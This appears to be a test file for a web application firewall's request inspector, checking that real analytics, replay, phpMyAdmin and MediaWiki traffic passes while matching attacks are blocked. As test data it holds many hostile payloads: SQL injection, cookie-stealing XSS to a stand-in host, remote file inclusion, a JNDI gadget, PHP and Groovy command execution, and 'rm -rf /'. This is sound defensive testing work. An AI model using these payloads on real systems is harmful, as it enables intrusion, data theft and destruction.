/**
 * Issue 25: the shapes real browser traffic sends (analytics, chat, error-reporting and replay
 * beacons; searches) that strict mode refused, each beside the attack of the same class that must
 * still be refused. Requests are written as they go over the wire; each `legit` case passes in
 * strict mode (no finding that blocks), each attack blocks in the mode named.
 */
import { deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { inspect } from '../src/inspect.ts';
import type { BlockMode, Decision } from '../src/types.ts';
import { wire } from './protocol/wire.ts';

const chrome = 'User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36\nAccept: */*';
const beacon = (path: string, type: string | null, body: string, extra = '') =>
  `POST ${path} HTTP/1.1\nHost: collect.analytics.example\n${chrome}\nOrigin: https://www.shop.example\nReferer: https://www.shop.example/checkout\n${type === null ? '' : `Content-Type: ${type}\n`}${extra}Content-Length: ${Buffer.byteLength(body)}\n\n${body}`;
const get = (target: string, extra = '') => `GET ${target} HTTP/1.1\nHost: shop.example\n${chrome}\n${extra}\n`;
const form = (path: string, body: string, extra = '') => `POST ${path} HTTP/1.1\nHost: shop.example\n${chrome}\nContent-Type: application/x-www-form-urlencoded\n${extra}Content-Length: ${Buffer.byteLength(body)}\n\n${body}`;
const json = (path: string, value: unknown) => beacon(path, 'application/json', JSON.stringify(value));

const verdict = (text: string, mode: BlockMode): Decision => inspect(wire(text), { mode });
const describeDecision = (d: Decision) => (d.action === 'block' ? `${d.rule} ${d.location ?? ''}:${d.name ?? ''} ${JSON.stringify(d.evidence)}` : d.action);

function passes(what: string, text: string): void {
  it(`passes: ${what}`, () => {
    const d = verdict(text, 'strict');
    expect(d.action === 'block' ? describeDecision(d) : 'not blocked').toBe('not blocked');
  });
}
function blocks(what: string, text: string, rule: RegExp, mode: BlockMode = 'loose'): void {
  it(`blocks (${mode}): ${what}`, () => {
    const d = verdict(text, mode);
    expect(d.action).toBe('block');
    expect(d.action === 'block' ? d.rule : '').toMatch(rule);
  });
}

describe('session fixation needs a session being fixed, not a visit counter', () => {
  passes('analytics beacon with sessionId in JSON, another site as Referer', json('/v1/collect', { sessionId: 'a1b2c3d4e5f6', event: 'pageview' }));
  passes('chat widget ping with session_id in a form body', beacon('/chat/ping', 'application/x-www-form-urlencoded', 'session_id=9f8e7d6c5b4a&visitor=42'));
  passes('pixel GET with session_id from another site', get('/pixel.gif?session_id=1700000000123&e=view', 'Referer: https://www.other-shop.example/\n'));
  passes('a fetch to the sign-in API marked cors by the browser', get('/login?sessionid=abc123', 'Referer: https://partner.example.net/\nSec-Fetch-Mode: cors\nSec-Fetch-Dest: empty\n'));
  blocks('PHPSESSID in a link from another site', get('/cart?PHPSESSID=attacker123', 'Referer: https://evil.example.net/\n'), /session_fixation/);
  blocks('a generic session id sent to the sign-in page from another site', get('/login?sessionid=abc123', 'Referer: https://attacker.example.net/\n'), /session_fixation/);
  blocks('a cross-site form posting a session id to the sign-in page', form('/login', 'sessionid=abc123&username=test&password=test123', 'Referer: https://attacker.example.net/\n'), /session_fixation/);
});

describe('console. is Node only as code', () => {
  passes('host names beginning with console. in JSON', json('/v1/e', { host: 'console.aws.amazon.com', other: 'console.cloud.google.com' }));
  passes('a query naming console.firebase.google.com', get('/r?host=console.firebase.google.com'));
  blocks('console called with a computed member', get('/?x=' + encodeURIComponent('console["log"](1)')), /process_reach|js_/);
  blocks('process.mainModule reached', get('/?x=' + encodeURIComponent('process.mainModule.require("child_process")')), /node\.|cmdi\./);
});

describe('a URL in a page-like parameter is no inclusion without an include shape', () => {
  passes('analytics page / url / referrer fields', json('/v1/e', { page: 'https://blog.other.example/post/1?ref=a', url: 'https://www.shop.example/cart?step=2', referrer: 'https://www.google.com/' }));
  passes('a tracking GET with page= another site', get('/t?page=' + encodeURIComponent('https://partner.example.org/landing?utm_source=x')));
  blocks('page= a text file on another host', get('/index.php?page=' + encodeURIComponent('http://203.0.113.9/shell.txt')), /inclusion/);
  blocks('page= a URL cut with ?', get('/index.php?page=' + encodeURIComponent('http://evil.example/x?')), /inclusion/);
  blocks('an include-named parameter with a remote URL (strict)', get('/index.php?include=' + encodeURIComponent('https://evil.example/')), /inclusion/, 'strict');
});

describe('a JSON document is read as JSON whatever its Content-Type', () => {
  passes('JSON posted as a form', beacon('/log', 'application/x-www-form-urlencoded', JSON.stringify({ event: 'click', props: { a: 'b|c', time: '12:30', sel: 'div > a[href]' }, list: [1, 2] })));
  passes('a typeless beacon of JSON', beacon('/beacon', null, JSON.stringify({ e: 'unload', t: 123 })));
  passes('a query that is one JSON document, encoded', get('/x?' + encodeURIComponent(JSON.stringify({ events: [{ name: 'click', sel: 'div > a:nth-child(2)', at: '12:30', path: 'a|b' }] }))));
  blocks('SQL injection inside a JSON query', get('/x?' + encodeURIComponent(JSON.stringify({ id: "1' union select username,password from users--" }))), /sqli/);
  blocks('SQL injection inside JSON posted as a form', beacon('/log', 'application/x-www-form-urlencoded', JSON.stringify({ id: "1' union select username,password from users--" })), /sqli/);
  blocks('a payload placed after & for the form reading', beacon('/log', 'application/x-www-form-urlencoded', JSON.stringify({ a: "&id=1' union select username,password from users--" })), /sqli/);
  it('keeps a typeless body of no known format suspicious (strict blocks it)', () => {
    expect(verdict(beacon('/beacon', null, 'test'), 'strict').action).toBe('block');
  });
  it('keeps typeless JSON from a non-browser client suspicious (CRS 920640)', () => {
    const d = verdict('PATCH /resource/1 HTTP/1.1\nHost: localhost\nUser-Agent: OWASP CRS test agent\nContent-Length: 46\n\n{"op":"replace","path":"/name","value":"test"}', 'strict');
    expect(d.action === 'block' ? d.rule : d.action).toBe('protocol.body_without_type');
  });
});

describe('SQL words in prose need SQL around them', () => {
  passes('a search for "union select 用法"', get('/search?q=' + encodeURIComponent('union select 用法')));
  passes('a Referer from a search engine with the same words', get('/', 'Referer: https://www.search.example/s?wd=union%20select%20%E7%94%A8%E6%B3%95\n'));
  passes('"union select meaning" in a search box', get('/search?q=union+select+meaning'));
  passes('a blog search for the two words "union select"', get('/?s=union+select'));
  blocks('a probe cut after the keyword pair behind a number (strict)', get('/item?id=' + encodeURIComponent('1 union select')), /sqli/, 'strict');
  blocks('1 union select password', get('/item?id=' + encodeURIComponent('1 union select password')), /sqli/);
  blocks("' union select null--", get('/item?id=' + encodeURIComponent("' union select null--")), /sqli/);
  blocks('union select 1,2,3', get('/item?id=' + encodeURIComponent('union select 1,2,3')), /sqli/);
});

describe('error reports and captured headers', () => {
  passes('captured response headers with CRLF in a JSON field', json('/api/err', { response: { headers: 'content-type: text/html\r\ncache-control: no-cache\r\nset-cookie: a=b' } }));
  passes('a stack trace with eval frames', json('/api/err', { stack: 'TypeError: x is not a function\n    at eval (app.js:12:3)\n    at eval (eval at run (vendor.js:1:5), <anonymous>:1:1)' }));
  blocks('a header injected after a break in a JSON field', json('/api/r', { next: 'x\r\nSet-Cookie: session=attacker' }), /crlf/, 'strict');
  blocks('a header injected in a query', get('/r?next=' + encodeURIComponent('x\r\nSet-Cookie: session=attacker')), /crlf/);
  blocks('eval of a command', get('/?c=' + encodeURIComponent('eval("system(\'id\')")')), /cmdi|php|xss/);
  blocks('an immediately invoked function reading the cookie', get('/?q=' + encodeURIComponent('(function(){new Image().src="//x.example/?"+document.cookie})()')), /xss|node/);
});

// The loose-mode case above: function source text is recorded, not blocked, in loose mode.
describe('loose mode', () => {
  it('records, does not block, function source in telemetry', () => {
    expect(verdict(json('/api/err', { source: 'function(){return document.cookie.split(";")}' }), 'loose').action).not.toBe('block');
  });
});

describe('attacks the held-out run let through', () => {
  blocks('SQL injection in an array key of a parameter name', get('/?name[0%20or%20updatexml(1,concat(0x7e,version()),1)%23]=x'), /sqli/);
  blocks('SQL injection in an array key of a form field name', form('/user', 'name[0 and extractvalue(1,concat(0x5c,user()))#]=a'), /sqli/);
  passes('ordinary bracketed names', form('/cart', 'items[0][qty]=2&items[1][name]=Green+tea&filter[price][gte]=10'));
  blocks('Groovy String.execute() in a script console query', get('/script?script=' + encodeURIComponent('println "id".execute().text')), /cmdi\.groovy/);
  blocks('Groovy List.execute()', get('/script?script=' + encodeURIComponent('["bash","-c","id"].execute()')), /cmdi\.groovy/);
  passes('a sentence about executing a query', get('/search?q=' + encodeURIComponent('how to execute() a prepared statement')));
  blocks("zip's -TT test command in an option", get('/archive?opts=' + encodeURIComponent('-TvTT=id>shell.php')), /cmdi\.argument_injection/);
  blocks("tar's checkpoint action", get('/archive?opts=' + encodeURIComponent('--checkpoint=1 --checkpoint-action=exec=id')), /cmdi\.argument_injection/);
  passes('an ordinary option-like value', get('/archive?opts=' + encodeURIComponent('-v --level=9')));
  blocks('a name assembled from regex .source pieces, then called', get('/?q=' + encodeURIComponent('"-top[/al/.source+/ert/.source](1)-"')), /xss/);
  blocks('background= with a script URL after a quote (strict)', get('/?q=' + encodeURIComponent('" background="javascript:alert(1)')), /xss/, 'strict');
  const phpSerialized = (inner: string) => `a:1:{s:4:"data";s:${inner.length}:"${inner}";}`;
  blocks('base64 of a PHP object inside a serialized value', form('/cart', 'cart=' + encodeURIComponent(phpSerialized(Buffer.from('O:8:"stdClass":1:{s:1:"a";s:1:"b";}').toString('base64')))), /php\.serialized/);
  blocks('base64 of PHP code inside a serialized value', get('/?d=' + encodeURIComponent(phpSerialized(Buffer.from('<?php system($_GET["c"]); ?>').toString('base64')))), /php|cmdi/);
  passes('base64 of plain text inside a serialized value (WordPress widget settings)', form('/wp-admin/options.php', 'opt=' + encodeURIComponent(phpSerialized(Buffer.from('Opening hours: 7-19, Sundays 9-13').toString('base64')))));
  blocks('<object data=javascript:>', get('/?q=' + encodeURIComponent('<object data="javascript:alert(1)">')), /xss/);
});

describe('what real SDKs put in their bodies', () => {
  const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64');
  const multipartField = (value: string) => beacon('/e', 'multipart/form-data; boundary=X', `--X\r\nContent-Disposition: form-data; name="data"\r\n\r\n${value}\r\n--X--\r\n`);
  passes('base64 JSON naming "runtime" and "ProcessBuilder" in a multipart field', multipartField(b64({ event: '$pageview', properties: { runtime: 'browser', name: 'Zoë 李雷', ProcessBuilder: 1 } })));
  passes('the same as a form value (PostHog compression=base64)', beacon('/e/?compression=base64', 'application/x-www-form-urlencoded', 'data=' + encodeURIComponent(b64({ runtime: 'browser', lib: 'web' }))));
  blocks('a serialized Java stream in base64', multipartField('rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7'), /java/);
  blocks('a gadget named inside base64 JSON (fastjson @type)', beacon('/e', 'application/x-www-form-urlencoded', 'data=' + b64({ '@type': 'com.sun.rowset.JdbcRowSetImpl', dataSourceName: 'ldap://x.example/a', autoCommit: true })), /java/);

  const envelope = (events: unknown) => {
    const compressed = deflateSync(Buffer.from(JSON.stringify(events)));
    const payload = Buffer.concat([Buffer.from('{"segment_id":0}\n'), compressed]);
    return Buffer.concat([
      Buffer.from('{"event_id":"7b7a2de5d62a4ccb86d94c0554d1b613","sdk":{"name":"sentry.javascript.browser"}}\n{"type":"replay_event"}\n{"type":"replay_event","urls":["https://www.shop.example/checkout"]}\n'),
      Buffer.from(`{"type":"replay_recording","length":${payload.length}}\n`),
      payload,
    ]);
  };
  const sendEnvelope = (body: Buffer) => inspect({ ...wire(beacon('/api/42/envelope/', null, '')), body: new Uint8Array(body) }, { mode: 'strict' });
  it('passes: a Sentry replay envelope whose recording is zlib-compressed', () => {
    const d = sendEnvelope(envelope([{ type: 2, data: { node: { tagName: 'div', attributes: { class: 'row' }, text: '50% off; ring twice' } } }]));
    expect(d.action === 'block' ? describeDecision(d) : 'not blocked').toBe('not blocked');
  });
  it('blocks (strict): an attack inside the compressed recording is read once inflated', () => {
    const d = sendEnvelope(envelope([{ type: 3, data: { text: "1' union select username,password from users--" } }]));
    expect(d.action === 'block' ? d.rule : d.action).toMatch(/sqli/);
  });
  it('passes a gzip body sent without Content-Encoding, and reads what is inside it', () => {
    const body = (v: unknown) => new Uint8Array(gzipSync(Buffer.from(JSON.stringify(v))));
    const benign = inspect({ ...wire(beacon('/e/?compression=gzip-js', 'text/plain', '')), body: body([{ event: 'click', properties: { text: 'Place order' } }]) }, { mode: 'strict' });
    expect(benign.action).not.toBe('block');
    const attack = inspect({ ...wire(beacon('/e/?compression=gzip-js', 'text/plain', '')), body: body([{ event: '<script>alert(document.cookie)</script>' }]) }, { mode: 'loose' });
    expect(attack.action === 'block' ? attack.rule : attack.action).toMatch(/xss/);
  });
  passes('a replay snapshot repeating the same few strings 3,000 times', json('/replay', { nodes: Array.from({ length: 3000 }, (_, i) => ({ id: i, tagName: 'div', type: 'element' })) }));
  blocks('3,000 distinct strings still exceed what is read', json('/replay', { nodes: Array.from({ length: 3000 }, (_, i) => `value-${i}`) }), /too_many_inputs/);
});

describe('recorded database administration (phpMyAdmin)', () => {
  const upload = (fileName: string, type: string, content: string) => {
    const body = `--B\r\nContent-Disposition: form-data; name="db"\r\n\r\nshop\r\n--B\r\nContent-Disposition: form-data; name="import_file"; filename="${fileName}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--B--\r\n`;
    return `POST /phpmyadmin/index.php?route=/import HTTP/1.1\nHost: shop.example\n${chrome}\nContent-Type: multipart/form-data; boundary=B\nContent-Length: ${Buffer.byteLength(body)}\n\n${body}`;
  };
  const dump = "-- Exported by hand from the old shop database\nSET NAMES utf8mb4;\nINSERT INTO products (name, price, category_id) VALUES\n  ('Rye loaf', 3.40, 1),\n  ('Croissant', 1.60, 2);\nUPDATE products SET name = 'Rye loaf (whole)' WHERE name = 'Rye loaf';\n";
  passes('a .sql file imported: the file is the statements', upload('shop-products.sql', 'application/sql', dump));
  passes('the same dump as a backup plugin uploads it (octet-stream)', upload('backup.sql', 'application/octet-stream', dump));
  blocks('the same statements in a form field the application reads as a value', form('/phpmyadmin/index.php?route=/import', 'db=shop&note=' + encodeURIComponent("x'; UPDATE products SET price = 0; --")), /sqli/);
  blocks('an injection in the uploaded file\'s name', upload("a' union select password from users-- .sql", 'application/sql', 'SELECT 1;'), /sqli/);
});

describe('phpMyAdmin writes SQL conditions with quoted names', () => {
  const save = (where: string) => form('/phpmyadmin/index.php?route=/table/replace', `ajax_request=true&db=shop&table=products&clause_is_unique=1&where_clause%5B%5D=${encodeURIComponent(where)}&fields%5Bmulti_edit%5D%5B0%5D%5B%5D=3.10&fields_name%5Bmulti_edit%5D%5B0%5D%5B%5D=price&submit_type=save`);
  passes('a grid edit: where_clause[] = `products`.`id` = 1', save('`products`.`id` = 1'));
  passes('a condition on two qualified names', save("`shop`.`products`.`id` = 1 AND `products`.`name` LIKE 'R%'"));
  blocks('`id` alone in the same field (strict)', save('`id`'), /cmdi/, 'strict');
  blocks('a command with arguments in backticks next to a qualified name', save('`products`.`id` = 1 `uname -a`'), /cmdi/);
  blocks('a qualified name compared with nothing: two substitutions (strict)', form('/x', 'note=' + encodeURIComponent('see `a`.`id`')), /cmdi/, 'strict');
});

describe('wikitext shows code in MediaWiki\'s own elements', () => {
  const page = (text: string) => form('/mediawiki/index.php?title=Backup_procedure&action=submit', `wpTextbox1=${encodeURIComponent(text)}&wpSummary=${encodeURIComponent('How we back up')}&wpSave=Save+changes`);
  const wikitext = (code: string) => `The '''nightly backup''' copies the database to the backup host.<ref>Set up in 2021.</ref>\n\n== Database ==\nTo check the last dump:\n${code}\n\n== Restore ==\n# Stop Apache first.\n# Load the dump and check [[Special:Version]].\n[[Category:Operations]]`;
  const sql = "SELECT table_name, table_rows FROM information_schema.tables WHERE table_schema = 'wiki' ORDER BY table_rows DESC;";
  passes('SQL in <syntaxhighlight lang="sql">', page(wikitext(`<syntaxhighlight lang="sql">\n${sql}\n</syntaxhighlight>`)));
  passes('SQL in <source lang="sql"> (its older name)', page(wikitext(`<source lang="sql">\n${sql}\n</source>`)));
  blocks('the same statement after an unclosed HTML <source> media element', page(wikitext(`<video><source src="/rack.mp4">\n${sql}`)), /sqli/);
  blocks('a breakout before a code element is still read', page(`1' UNION SELECT table_name FROM information_schema.tables-- \n${wikitext('<syntaxhighlight lang="sql">SELECT 1;</syntaxhighlight>')}`), /sqli/);
});

describe('a command named without its operand does nothing', () => {
  passes('a blog search for "rm -rf" (WordPress)', get('/?s=rm+-rf'));
  passes('a wiki search and its suggestion request (MediaWiki)', get('/mediawiki/api.php?action=opensearch&format=json&formatversion=2&search=rm%20-rf&namespace=0&limit=10'));
  passes('the search page as the Referer of its own scripts', get('/mediawiki/load.php?lang=en&modules=jquery&skin=vector', 'Referer: http://shop.example/mediawiki/index.php?search=rm+-rf&title=Special%3ASearch&go=Go\n'));
  blocks('rm -rf with an operand', get('/?s=' + encodeURIComponent('rm -rf /')), /cmdi/);
  blocks('rm -rf chained after a separator', get('/?s=' + encodeURIComponent(';rm -rf')), /cmdi/);
  blocks('rm -rf under sudo', get('/?s=' + encodeURIComponent('sudo rm -rf')), /cmdi/);
  blocks('a probe that makes the shell answer (env --version)', get('/?s=' + encodeURIComponent('env --version')), /cmdi/);
  blocks('the probe in the Referer\'s query', get('/mediawiki/load.php?lang=en', 'Referer: http://shop.example/?args=env+--version\n'), /cmdi/);
});
